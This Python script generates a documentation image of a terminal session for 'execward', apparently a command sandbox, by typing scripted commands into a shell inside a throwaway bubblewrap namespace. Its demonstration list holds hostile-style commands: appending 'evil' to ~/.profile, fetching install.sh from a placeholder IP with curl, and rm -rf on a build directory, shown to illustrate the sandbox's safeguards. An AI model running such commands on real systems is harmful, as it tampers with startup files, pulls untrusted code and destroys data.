#!/usr/bin/env python3
"""Makes docs/session.svg: what a terminal shows after a few commands of execward run.

usage: scripts/generate/picture.py [--check] [EXECWARD]

A shell runs in a terminal of `execward serve --record`, in a mount namespace in which /home/ada is a new
directory; the lines of SCENE are typed into it, and `execward screen --svg` draws the recording. Nothing is
drawn by hand. With --check it compares the picture with the file and changes nothing. Needs bubblewrap, make, and an
execward with libvterm; ends with the status 77 where that, or a sandbox, is missing.
"""

import base64
import json
import os
import pathlib
import selectors
import shutil
import subprocess
import sys
import tempfile
import time

ROOT = pathlib.Path(__file__).resolve().parents[2]
PICTURE = ROOT / "docs/session.svg"
PATIENCE_SECONDS = 60 * float(os.environ.get("EXECWARD_TEST_SLACK", "1"))
PROMPT = "~/project$ "
QUESTION = "(y/p/a/n/d, then Enter)? "
MAKEFILE = "test:\n\t@mkdir -p build && echo 12 tests passed\n"
# What is typed, and what the terminal shows at the end of the answer.
SCENE = [
    ("execward run -- make test", PROMPT),
    ("execward run --report-writes -- sh -c 'echo evil >> ~/.profile'", PROMPT),
    ("execward run -- curl -sm 9 http://192.0.2.7/install.sh", PROMPT),
    ("execward run -- rm -rf build", QUESTION),
    ("y", PROMPT),
]
SIZE = {"rows": 22, "cols": 88}
SKIPPED = 77


def skip(why):
    print(f"picture: {why}: skipped")
    sys.exit(SKIPPED)


class Terminal:
    """A shell in a terminal of a server."""

    def __init__(self, command):
        self.server = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        self.selector = selectors.DefaultSelector()
        self.selector.register(self.server.stdout, selectors.EVENT_READ)
        self.unread, self.shown = b"", ""
        self.send("initialize", {"clientName": "picture"}, 1)
        self.send("initialized", {})
        variables = {"PATH": "/opt/bin:/usr/bin:/bin", "HOME": "/home/ada", "TERM": "xterm-256color",
                     "PS1": PROMPT, "LC_ALL": "C.UTF-8"}
        self.send("process/start", {
            "processId": "shell", "argv": ["bash", "--norc", "--noprofile", "-i"],
            "cwd": "/home/ada/project", "tty": True, "size": SIZE, "env": variables}, 2)

    def send(self, method, params, number=None):
        message = {"method": method, "params": params}
        if number is not None:
            message["id"] = number
        self.server.stdin.write(json.dumps(message).encode() + b"\n")
        self.server.stdin.flush()

    def wait_for(self, end):
        """Waits until the terminal's output has this text at its end."""
        deadline = time.monotonic() + PATIENCE_SECONDS
        while not self.shown.endswith(end):
            if not self.selector.select(max(0, deadline - time.monotonic())):
                sys.exit(f"picture: no '{end}' after: {self.shown!r}")
            data = os.read(self.server.stdout.fileno(), 65536)
            if not data:
                sys.exit(f"picture: the server ended after: {self.shown!r}")
            *lines, self.unread = (self.unread + data).split(b"\n")
            for line in lines:
                self.take(json.loads(line))

    def take(self, message):
        if message.get("method") == "process/output":
            self.shown += base64.b64decode(message["params"]["chunk"]).decode("utf-8", "replace")
        elif "error" in message:
            sys.exit(f"picture: {message['error']['message']}")

    def type(self, text):
        self.shown = ""
        chunk = base64.b64encode(text.encode() + b"\n").decode()
        self.send("process/write", {"processId": "shell", "chunk": chunk}, 3)

    def close(self):
        self.server.stdin.close()
        self.server.wait(PATIENCE_SECONDS)


def namespace(scratch, execward):
    """Returns a command that leads into the mount namespace of the scene."""
    home = scratch / "home"
    (home / "project").mkdir(parents=True)
    (home / "project/Makefile").write_text(MAKEFILE, encoding="utf-8")
    (home / "project/.git").mkdir()
    # The programs of the scene, where the shell finds them by their plain names.
    places = scratch / "bin"
    places.mkdir()
    (places / "execward").symlink_to(execward)
    return ["bwrap", "--dev-bind", "/", "/", "--tmpfs", "/home", "--bind", str(home), "/home/ada",
            "--tmpfs", "/opt", "--bind", str(places), "/opt/bin", "--setenv", "HOME", "/home/ada",
            "--unsetenv", "XDG_CONFIG_HOME", "--unsetenv", "XDG_STATE_HOME", "--chdir", "/home/ada/project"]


def draw(execward, scratch):
    command = namespace(scratch, execward)
    if subprocess.run([*command, "execward", "doctor"], capture_output=True, check=False,
                      env=dict(os.environ, PATH=f"/opt/bin:{os.environ['PATH']}")).returncode != 0:
        skip("no whole sandbox in a namespace")
    recording = scratch / "session.transcript"
    terminal = Terminal([*command, str(execward), "serve", "--record", str(recording)])
    terminal.wait_for(PROMPT)
    for text, end in SCENE:
        terminal.type(text)
        terminal.wait_for(end)
    terminal.close()
    drawn = subprocess.run([execward, "screen", "--svg", recording], capture_output=True, text=True, check=False)
    if drawn.returncode != 0:
        skip(drawn.stderr.strip())
    return drawn.stdout


def main():
    is_check = "--check" in sys.argv[1:]
    names = [word for word in sys.argv[1:] if word != "--check"]
    execward = pathlib.Path(names[0] if names else ROOT / "build/execward").resolve()
    for program in ("bwrap", "make", "curl"):
        if shutil.which(program) is None:
            skip(f"no {program}")
    with tempfile.TemporaryDirectory(prefix="execward-picture-", dir="/var/tmp") as scratch:
        picture = draw(execward, pathlib.Path(scratch))
    if not is_check:
        PICTURE.write_text(picture, encoding="utf-8")
        return 0
    if picture == PICTURE.read_text(encoding="utf-8"):
        return 0
    print("picture: docs/session.svg is not what a run shows; scripts/generate/picture.py makes it", picture)
    return 1


if __name__ == "__main__":
    sys.exit(main())
